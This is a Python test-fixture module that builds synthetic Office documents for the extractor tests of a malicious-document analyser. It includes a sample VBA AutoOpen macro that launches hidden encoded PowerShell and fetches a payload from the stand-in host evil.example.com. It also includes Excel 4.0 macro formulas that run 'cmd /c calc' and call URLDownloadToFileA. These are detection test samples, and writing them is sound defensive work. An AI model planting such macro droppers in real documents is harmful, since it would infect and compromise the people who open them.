"""Small synthetic Office fixtures for the Office extractor tests (inert: nothing here runs).

CFB containers and VBA projects come from the sample generator (`maldoc.samples`); the rest
(OOXML parts, RTF objects, OLE 1.0 packages, BIFF records, ActiveMime blobs) is built here.
"""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib

from maldoc.engine import analyze
from maldoc.extractor import Context, Options, Unpacker
from maldoc.limits import Budget, Limits
from maldoc.samples import cfb, oledoc, ovba
from maldoc.types import ExtractorResult, Sample, Sealing

PID = "{11111111-2222-3333-4444-555555555555}"

MALICIOUS_VBA = '''Sub AutoOpen()
    Dim s As String
    s = "powershell -nop -w hidden -enc " & Chr(65) & Chr(66)
    Set sh = CreateObject("WScript.Shell")
    sh.Run s, 0
    Set x = CreateObject("MSXML2.XMLHTTP")
    x.Open "GET", "http://evil.example.com/payload.exe", False
End Sub
'''
BENIGN_VBA = '''Sub FormatReport()
    ' Bold the header row of the report
    Dim r As Range
    Set r = ActiveSheet.Range("A1:F1")
    r.Font.Bold = True
End Sub
'''


def run(extractor, data: bytes, name: str = "sample", *, out: ExtractorResult | None = None,
        options: Options | None = None, limits: Limits | None = None,
        sealed: Sealing = Sealing.PLAIN) -> ExtractorResult:
    """Run one extractor (or unpacking step) on `data`, the way the walk would."""
    limits = limits or Limits()
    options = options or Options()
    ctx = Context(limits=limits, budget=Budget(limits), options=options, passwords=options.passwords)
    out = out if out is not None else ExtractorResult()
    sample = Sample(data=data, name=name, path=(name,), sealed=sealed)
    if isinstance(extractor, Unpacker):
        extractor.unpack(sample, ctx, out)
    else:
        extractor.extract(sample, ctx, out)
    return out


def rules(out_or_node) -> set[str]:
    result = getattr(out_or_node, "result", out_or_node)
    return {f.rule_id for f in result.findings}


def tree_rules(node) -> set[str]:
    return {f.rule_id for sub in node.walk() for f in sub.result.findings}


def scan(data: bytes, name: str, **options):
    return analyze(data, name, options=Options(**options) if options else None)


# --- VBA containers ------------------------------------------------------------------------------

def modules(code: str, name: str = "Module1") -> list[ovba.Module]:
    return [ovba.Module("ThisDocument", "", document=True, base="1Normal.ThisDocument"), ovba.Module(name, code)]


def doc_with_vba(code: str) -> bytes:
    return oledoc.doc("Invoice attached.", modules(code), PID)


def vba_bin(code: str) -> bytes:
    return oledoc.vba_project_bin(modules(code), PID)


def zip_bytes(members: dict[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data.encode() if isinstance(data, str) else data)
    return buf.getvalue()


CT_DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
CT_DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"


def content_types(main: str = CT_DOCX, extra: str = "") -> str:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main}"/>{extra}</Types>')


ROOT_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships '
             'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
             'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
             'Target="word/document.xml"/></Relationships>')
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def rels(*items: tuple[str, str, bool]) -> str:
    """A .rels part from (type suffix, target, external) triples."""
    body = "".join(
        f'<Relationship Id="rId{i}" Type="{REL_NS}{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "") + "/>"
        for i, (kind, target, external) in enumerate(items, 10))
    return ('<?xml version="1.0" encoding="UTF-8"?><Relationships '
            f'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>')


def document_xml(body: str = "<w:p><w:r><w:t>Hello</w:t></w:r></w:p>") -> str:
    return ('<?xml version="1.0" encoding="UTF-8"?><w:document '
            'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            f"<w:body>{body}</w:body></w:document>")


def docx(members: dict[str, bytes | str] | None = None, *, main: str = CT_DOCX, extra_types: str = "",
         document: str | None = None, document_rels: str | None = None) -> bytes:
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": content_types(main, extra_types),
        "_rels/.rels": ROOT_RELS,
        "word/document.xml": document or document_xml(),
    }
    if document_rels:
        parts["word/_rels/document.xml.rels"] = document_rels
    parts.update(members or {})
    return zip_bytes(parts)


def docm(code: str) -> bytes:
    return docx({"word/vbaProject.bin": vba_bin(code)}, main=CT_DOCM,
                extra_types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')


def activemime(ole: bytes) -> bytes:
    """An ActiveMime (.mso) blob as Word writes into 2003 XML and MHTML: header, then zlib data."""
    header = b"ActiveMime".ljust(0x1E, b"\0") + struct.pack("<H", 0x32 - 46)
    return header.ljust(0x32, b"\0") + zlib.compress(ole)


def word2003_xml(ole: bytes) -> bytes:
    b64 = base64.encodebytes(activemime(ole)).decode()
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<?mso-application progid="Word.Document"?>\n'
            '<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" '
            'w:macrosPresent="yes"><w:docSuppData><w:binData w:name="editdata.mso">'
            f"{b64}</w:binData></w:docSuppData><w:body><w:p><w:r><w:t>Hi</w:t></w:r></w:p></w:body>"
            "</w:wordDocument>").encode()


def mhtml(ole: bytes) -> bytes:
    b64 = base64.encodebytes(activemime(ole)).decode()
    return ("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"----=_NextPart_01\"\r\n\r\n"
            "------=_NextPart_01\r\nContent-Location: file:///C:/doc.htm\r\nContent-Type: text/html\r\n\r\n"
            "<html><body>Hi</body></html>\r\n"
            "------=_NextPart_01\r\nContent-Location: file:///C:/doc_files/editdata.mso\r\n"
            "Content-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n"
            f"{b64}\r\n------=_NextPart_01--\r\n").encode()


# --- OLE 1.0 objects and packages ----------------------------------------------------------------

def package_native(filename: str, payload: bytes) -> bytes:
    """The Packager's native data (MS-OLEDS 2.3.6 without the leading size): name, paths, payload."""
    name = filename.encode("latin-1") + b"\0"
    path = f"C:\\Users\\a\\{filename}".encode("latin-1") + b"\0"
    return (struct.pack("<H", 2) + name + path + struct.pack("<II", 0, 0) + path
            + struct.pack("<I", len(payload)) + payload)


def ole10native(filename: str, payload: bytes) -> bytes:
    native = package_native(filename, payload)
    return struct.pack("<I", len(native)) + native


def ole1_object(class_name: str, native: bytes) -> bytes:
    """An OLE 1.0 embedded object (MS-OLEDS 2.2.4): header, class name, empty topic/item, native data."""
    cls = class_name.encode("latin-1") + b"\0"
    return (struct.pack("<II", 0x0501, 2) + struct.pack("<I", len(cls)) + cls + struct.pack("<II", 0, 0)
            + struct.pack("<I", len(native)) + native)


def rtf_with_object(class_name: str, native: bytes, *, header: str = "{\\rtf1", extra: str = "") -> bytes:
    hexdata = ole1_object(class_name, native).hex()
    lines = "\n".join(hexdata[i:i + 128] for i in range(0, len(hexdata), 128))
    return (f"{header}\\ansi{{\\fonttbl{{\\f0 Arial;}}}}\\f0 Hello\\par"
            f"{{\\object\\objemb{extra}{{\\*\\objclass {class_name}}}{{\\*\\objdata {lines}}}}}}}").encode()


# --- BIFF8 ---------------------------------------------------------------------------------------

def _rec(rid: int, payload: bytes) -> bytes:
    return struct.pack("<HH", rid, len(payload)) + payload


def _bof(dt: int) -> bytes:
    return _rec(0x0809, struct.pack("<HHHHII", 0x0600, dt, 0x0DBB, 0x07CC, 0, 0x0206))


def _boundsheet(offset: int, state: int, kind: int, name: str) -> bytes:
    raw = name.encode("latin-1")
    return _rec(0x0085, struct.pack("<IBB", offset, state, kind) + struct.pack("<BB", len(raw), 0) + raw)


def _lbl_auto_open() -> bytes:
    """LBL for the built-in name Auto_Open (fBuiltin, name = 0x01), pointing at no formula."""
    return _rec(0x0018, struct.pack("<HBBHHH", 0x0020, 0, 1, 0, 0, 0) + b"\0" * 4 + b"\x00\x01")


def _formula(func_id: int, args: list[str], variadic: bool = True) -> bytes:
    rgce = b"".join(b"\x17" + struct.pack("<BB", len(a), 0) + a.encode("latin-1") for a in args)
    rgce += struct.pack("<BBH", 0x42, len(args), func_id) if variadic else struct.pack("<BH", 0x41, func_id)
    return _rec(0x0006, struct.pack("<HHHdHIH", 0, 0, 0x0F, 0.0, 0, 0, len(rgce)) + rgce)


def workbook(macro_state: int = 2, *, auto_open: bool = True, funcs: tuple[tuple[int, list[str]], ...] = (
        (0x6E, ["cmd /c calc"]), (0x96, ["urlmon", "URLDownloadToFileA", "JJCCJJ"]))) -> bytes:
    """BIFF8 Workbook stream: one worksheet and one Excel 4.0 macro sheet (state 0/1/2)."""
    sheet = _bof(0x0010) + _rec(0x000A, b"")
    macro = _bof(0x0040) + b"".join(_formula(fid, args) for fid, args in funcs) + _rec(0x000A, b"")
    head = _bof(0x0005) + (_lbl_auto_open() if auto_open else b"")
    bound_len = len(_boundsheet(0, 0, 0, "Sheet1")) + len(_boundsheet(0, 0, 1, "Macro1"))
    first = len(head) + bound_len + 4
    bounds = _boundsheet(first, 0, 0, "Sheet1") + _boundsheet(first + len(sheet), macro_state, 1, "Macro1")
    return head + bounds + _rec(0x000A, b"") + sheet + macro


def xls(stream: bytes) -> bytes:
    return cfb.write({"Workbook": stream}, root_clsid=oledoc.CLSID_EXCEL)
